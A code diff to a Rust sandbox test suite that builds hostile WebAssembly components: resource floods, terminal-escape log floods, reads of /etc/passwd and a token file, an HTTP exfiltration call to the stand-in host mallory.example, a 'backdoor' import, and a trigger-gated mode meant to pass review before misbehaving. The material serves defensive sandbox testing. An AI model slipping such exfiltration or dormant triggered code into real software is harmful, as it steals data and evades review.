@@ -1,6 +1,13 @@
 //! Hostile solutions for testing the sandbox. Each cargo feature builds a component whose `run`
 //! misbehaves in one way; `describe` is always well-formed so the component gets that far.
 //! Built only for wasm32-wasip2, by `host/artifacts/build.rs`.
+//!
+//! With `on-cue` the component behaves (echoes `data.x`, so it passes its vectors and the
+//! publish checks) until the first value of `data.x` names a misbehaviour ([`Cue`]): that is how
+//! a provider would slip one past review, and how the end-to-end tests attack a running server.
+
+// Each build uses the misbehaviours of its own feature only.
+#![cfg_attr(not(feature = "on-cue"), allow(dead_code))]
 
 use smelt_sdk::prelude::*;
 
@@ -19,23 +26,106 @@ impl Solution for Hostile {
     }
 
     fn run(input: Input) -> Result<Output, SolutionError> {
-        misbehave();
         let x = input.table("data")?.float64("x")?.to_vec();
+        if let Some(output) = misbehave(&x)? {
+            return Ok(output);
+        }
         sleeper(&x);
         Ok(Output::new().with_table(TableBuilder::new("out").float64("x", x).build()))
     }
 }
 
-#[cfg(feature = "infinite-loop")]
-fn misbehave() {
+/// The misbehaviours an `on-cue` component performs when `data.x[0]` is the cue's value.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Cue {
+    /// Loops forever (stopped by fuel or the epoch deadline).
+    InfiniteLoop = 13,
+    /// Grows linear memory by 1 MiB at a time, forever.
+    MemoryGrow = 14,
+    /// Recurses without bound.
+    Recursion = 15,
+    /// Returns about 24 MB of output.
+    HugeOutput = 16,
+    /// Logs terminal escape sequences forever.
+    LogFlood = 17,
+    /// Prints terminal escape sequences to stdout forever.
+    PrintFlood = 18,
+    /// Executes `unreachable` mid-call.
+    Trap = 19,
+    /// Panics.
+    Panic = 20,
+    /// Asks `wasi:random` for 1 GiB of random bytes at once.
+    RandomFlood = 21,
+    /// Tries to read, list and write the host's files and read its environment.
+    Filesystem = 22,
+}
+
+impl Cue {
+    /// Every cue.
+    pub const ALL: &[Cue] = &[
+        Cue::InfiniteLoop,
+        Cue::MemoryGrow,
+        Cue::Recursion,
+        Cue::HugeOutput,
+        Cue::LogFlood,
+        Cue::PrintFlood,
+        Cue::Trap,
+        Cue::Panic,
+        Cue::RandomFlood,
+        Cue::Filesystem,
+    ];
+
+    /// The value of `data.x[0]` that triggers it.
+    pub fn value(self) -> f64 {
+        self as i32 as f64
+    }
+
+    /// The error code the host must answer with (`smelt_runtime::Error::code`). An infinite
+    /// loop ends as `out_of_fuel` or `timeout`, whichever limit comes first; this names fuel.
+    pub fn code(self) -> &'static str {
+        match self {
+            Cue::InfiniteLoop => "out_of_fuel",
+            Cue::MemoryGrow => "memory_limit",
+            Cue::Recursion => "stack_overflow",
+            Cue::HugeOutput => "output_too_large",
+            Cue::LogFlood | Cue::PrintFlood => "log_too_large",
+            Cue::Trap => "trap",
+            Cue::Panic => "panic",
+            Cue::RandomFlood => "random_too_large",
+            Cue::Filesystem => "unsupported",
+        }
+    }
+
+    fn of(x: &[f64]) -> Option<Cue> {
+        let first = *x.first()?;
+        Cue::ALL.iter().copied().find(|c| c.value() == first)
+    }
+
+    fn perform(self) -> Result<Output, SolutionError> {
+        match self {
+            Cue::InfiniteLoop => infinite_loop(),
+            Cue::MemoryGrow => memory_grow(),
+            Cue::Recursion => recursion(),
+            Cue::HugeOutput => return Ok(huge()),
+            Cue::LogFlood => log_flood(),
+            Cue::PrintFlood => print_flood(),
+            Cue::Trap => trap(),
+            Cue::Panic => panic(),
+            Cue::RandomFlood => random_flood(),
+            Cue::Filesystem => return filesystem().map(|()| Output::new()),
+        }
+        Ok(Output::new())
+    }
+}
+
+fn infinite_loop() {
     let mut n = 0u64;
     loop {
         n = std::hint::black_box(n.wrapping_add(1));
     }
 }
 
-#[cfg(feature = "memory-grow")]
-fn misbehave() {
+fn memory_grow() {
     let mut hoard: Vec<Vec<u8>> = Vec::new();
     loop {
         hoard.push(vec![1u8; 1 << 20]);
@@ -43,8 +133,7 @@ fn misbehave() {
     }
 }
 
-#[cfg(feature = "recursion")]
-fn misbehave() {
+fn recursion() {
     #[allow(unconditional_recursion)]
     fn deeper(n: u64) -> u64 {
         std::hint::black_box(deeper(std::hint::black_box(n + 1))) + 1
@@ -52,72 +141,29 @@ fn misbehave() {
     std::hint::black_box(deeper(0));
 }
 
-#[cfg(feature = "huge-output")]
-fn misbehave() {}
-
-/// The sleeper behaves (so it passes its vectors and the publish checks) until it sees the
-/// trigger value 13, then loops forever.
-#[cfg(feature = "sleeper")]
-fn sleeper(x: &[f64]) {
-    if x.first() == Some(&13.0) {
-        let mut n = 0u64;
-        loop {
-            n = std::hint::black_box(n.wrapping_add(1));
-        }
-    }
-}
-
-#[cfg(not(feature = "sleeper"))]
-fn sleeper(_x: &[f64]) {}
-
-#[cfg(feature = "log-flood")]
-fn misbehave() {
+fn log_flood() {
     // Terminal escape sequences: the host must neutralise them before logs and UI.
     loop {
         log::warn("\x1b[2J\x1b[31mflood\x1b[0m \x07 all work and no play");
     }
 }
 
-#[cfg(feature = "print-flood")]
-fn misbehave() {
+fn print_flood() {
     loop {
         println!("\x1b]0;pwned\x07 flood via stdout");
     }
 }
 
-#[cfg(feature = "trap")]
-fn misbehave() {
+fn trap() {
     #[cfg(target_arch = "wasm32")]
     core::arch::wasm32::unreachable();
 }
 
-#[cfg(feature = "panic")]
-fn misbehave() {
+fn panic() {
     let rows: Vec<u32> = std::hint::black_box(Vec::new());
     panic!("hostile panic: index {} of {} rows", 3, rows.len());
 }
 
-#[cfg(feature = "forbidden-import")]
-fn misbehave() {
-    // Pulls wasi:sockets into the component's imports.
-    let _ = std::net::TcpStream::connect("127.0.0.1:9");
-}
-
-#[cfg(not(any(
-    feature = "infinite-loop",
-    feature = "memory-grow",
-    feature = "recursion",
-    feature = "huge-output",
-    feature = "log-flood",
-    feature = "print-flood",
-    feature = "trap",
-    feature = "panic",
-    feature = "forbidden-import"
-)))]
-fn misbehave() {}
-
-#[cfg(feature = "huge-output")]
-#[allow(dead_code)]
 fn huge() -> Output {
     // 3M floats = 24 MB, over the default 16 MiB output cap yet under the 64 MiB memory cap.
     Output::new().with_table(
@@ -125,6 +171,224 @@ fn huge() -> Output {
             .float64("x", vec![1.5; 3_000_000])
             .build(),
     )
+}
+
+/// The real `wasi:random/random@0.2.0` signature, imported directly so the request reaches the
+/// host unclamped (std asks for a few bytes at a time).
+#[allow(missing_docs, unsafe_code, clippy::all, unreachable_pub)]
+mod random {
+    wit_bindgen::generate!({
+        inline: r#"
+            package mallory:random;
+            world flood { import wasi:random/random@0.2.0; }
+            package wasi:random@0.2.0 {
+                interface random {
+                    get-random-bytes: func(len: u64) -> list<u8>;
+                    get-random-u64: func() -> u64;
+                }
+            }
+        "#,
+        world: "mallory:random/flood",
+        generate_all,
+    });
+}
+
+fn random_flood() {
+    let bytes = random::wasi::random::random::get_random_bytes(1 << 30);
+    std::hint::black_box(bytes);
+}
+
+/// Tries the host's files and environment; every attempt must fail, and the error lists them.
+/// Any success is returned as output, which the tests treat as an escape.
+fn filesystem() -> Result<(), SolutionError> {
+    let mut escaped = Vec::new();
+    let mut refused = Vec::new();
+    let mut note = |what: &str, result: std::io::Result<String>| match result {
+        Ok(found) => escaped.push(format!("{what}: {found}")),
+        Err(e) => refused.push(format!("{what}: {e}")),
+    };
+    for path in ["/etc/passwd", "../../../../etc/passwd", "admin.token", "db"] {
+        note(
+            path,
+            std::fs::read(path).map(|b| format!("{} bytes", b.len())),
+        );
+    }
+    for dir in ["/", ".", ".."] {
+        note(
+            dir,
+            std::fs::read_dir(dir).map(|d| format!("{} entries", d.count())),
+        );
+    }
+    note(
+        "create /tmp/smelt-hostile-escape",
+        std::fs::write("/tmp/smelt-hostile-escape", b"escaped").map(|()| "written".into()),
+    );
+    let vars: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
+    if !vars.is_empty() {
+        escaped.push(format!("environment: {}", vars.join(",")));
+    }
+    if std::env::args().count() > 0 {
+        escaped.push(format!(
+            "arguments: {:?}",
+            std::env::args().collect::<Vec<_>>()
+        ));
+    }
+    if escaped.is_empty() {
+        Err(SolutionError::Unsupported(format!(
+            "no host access: {}",
+            refused.join("; ")
+        )))
+    } else {
+        Err(SolutionError::InvalidInput(format!(
+            "ESCAPED: {}",
+            escaped.join("; ")
+        )))
+    }
+}
+
+#[cfg(feature = "on-cue")]
+fn misbehave(x: &[f64]) -> Result<Option<Output>, SolutionError> {
+    Cue::of(x).map(Cue::perform).transpose()
+}
+
+#[cfg(feature = "infinite-loop")]
+fn misbehave(_x: &[f64]) -> Result<Option<Output>, SolutionError> {
+    infinite_loop();
+    Ok(None)
+}
+
+#[cfg(feature = "memory-grow")]
+fn misbehave(_x: &[f64]) -> Result<Option<Output>, SolutionError> {
+    memory_grow();
+    Ok(None)
+}
+
+#[cfg(feature = "recursion")]
+fn misbehave(_x: &[f64]) -> Result<Option<Output>, SolutionError> {
+    recursion();
+    Ok(None)
+}
+
+#[cfg(feature = "log-flood")]
+fn misbehave(_x: &[f64]) -> Result<Option<Output>, SolutionError> {
+    log_flood();
+    Ok(None)
+}
+
+#[cfg(feature = "print-flood")]
+fn misbehave(_x: &[f64]) -> Result<Option<Output>, SolutionError> {
+    print_flood();
+    Ok(None)
+}
+
+#[cfg(feature = "trap")]
+fn misbehave(_x: &[f64]) -> Result<Option<Output>, SolutionError> {
+    trap();
+    Ok(None)
+}
+
+#[cfg(feature = "panic")]
+fn misbehave(_x: &[f64]) -> Result<Option<Output>, SolutionError> {
+    panic();
+    Ok(None)
+}
+
+#[cfg(feature = "forbidden-import")]
+fn misbehave(_x: &[f64]) -> Result<Option<Output>, SolutionError> {
+    // Pulls wasi:sockets into the component's imports.
+    let _ = std::net::TcpStream::connect("127.0.0.1:9");
+    Ok(None)
+}
+
+/// Imports `wasi:http/outgoing-handler`. The version is a 0.3 release candidate with a
+/// stand-in signature: std's own WIT metadata already defines wasi:http 0.2, which a partial
+/// copy cannot be merged with, and the host refuses any `wasi:http` import by name before it
+/// looks at the types.
+#[cfg(feature = "http-import")]
+#[allow(missing_docs, unsafe_code, clippy::all, unreachable_pub)]
+mod http {
+    wit_bindgen::generate!({
+        inline: r#"
+            package mallory:http;
+            world exfil { import wasi:http/outgoing-handler@0.3.0-rc-2025-09-16; }
+            package wasi:http@0.3.0-rc-2025-09-16 {
+                interface outgoing-handler {
+                    handle: func(url: string, body: list<u8>) -> result<u16, string>;
+                }
+            }
+        "#,
+        world: "mallory:http/exfil",
+        generate_all,
+    });
+}
+
+#[cfg(feature = "http-import")]
+fn misbehave(x: &[f64]) -> Result<Option<Output>, SolutionError> {
+    let body: Vec<u8> = x.iter().flat_map(|v| v.to_le_bytes()).collect();
+    let _ = http::wasi::http::outgoing_handler::handle("http://mallory.example/", &body);
+    Ok(None)
+}
+
+/// Imports an interface no host provides.
+#[cfg(feature = "unknown-import")]
+#[allow(missing_docs, unsafe_code, clippy::all, unreachable_pub)]
+mod backdoor {
+    wit_bindgen::generate!({
+        inline: r#"
+            package mallory:backdoor@1.0.0;
+            interface exfil { send: func(data: list<f64>); }
+            world backdoor { import exfil; }
+        "#,
+        world: "mallory:backdoor/backdoor@1.0.0",
+    });
+}
+
+#[cfg(feature = "unknown-import")]
+fn misbehave(x: &[f64]) -> Result<Option<Output>, SolutionError> {
+    backdoor::mallory::backdoor::exfil::send(x);
+    Ok(None)
+}
+
+#[cfg(feature = "random-flood")]
+fn misbehave(_x: &[f64]) -> Result<Option<Output>, SolutionError> {
+    random_flood();
+    Ok(None)
+}
+
+#[cfg(feature = "filesystem")]
+fn misbehave(_x: &[f64]) -> Result<Option<Output>, SolutionError> {
+    filesystem().map(|()| None)
+}
+
+/// The sleeper behaves (so it passes its vectors and the publish checks) until it sees the
+/// trigger value 13, then loops forever.
+#[cfg(feature = "sleeper")]
+fn sleeper(x: &[f64]) {
+    if x.first() == Some(&13.0) {
+        infinite_loop();
+    }
+}
+
+#[cfg(not(feature = "sleeper"))]
+fn sleeper(_x: &[f64]) {}
+
+#[cfg(not(any(
+    feature = "infinite-loop",
+    feature = "memory-grow",
+    feature = "recursion",
+    feature = "log-flood",
+    feature = "print-flood",
+    feature = "trap",
+    feature = "panic",
+    feature = "forbidden-import",
+    feature = "http-import",
+    feature = "unknown-import",
+    feature = "random-flood",
+    feature = "filesystem",
+    feature = "on-cue"
+)))]
+fn misbehave(_x: &[f64]) -> Result<Option<Output>, SolutionError> {
+    Ok(None)
 }
 
 /// With `huge-output`, `run` returns [`huge`] instead of an echo.
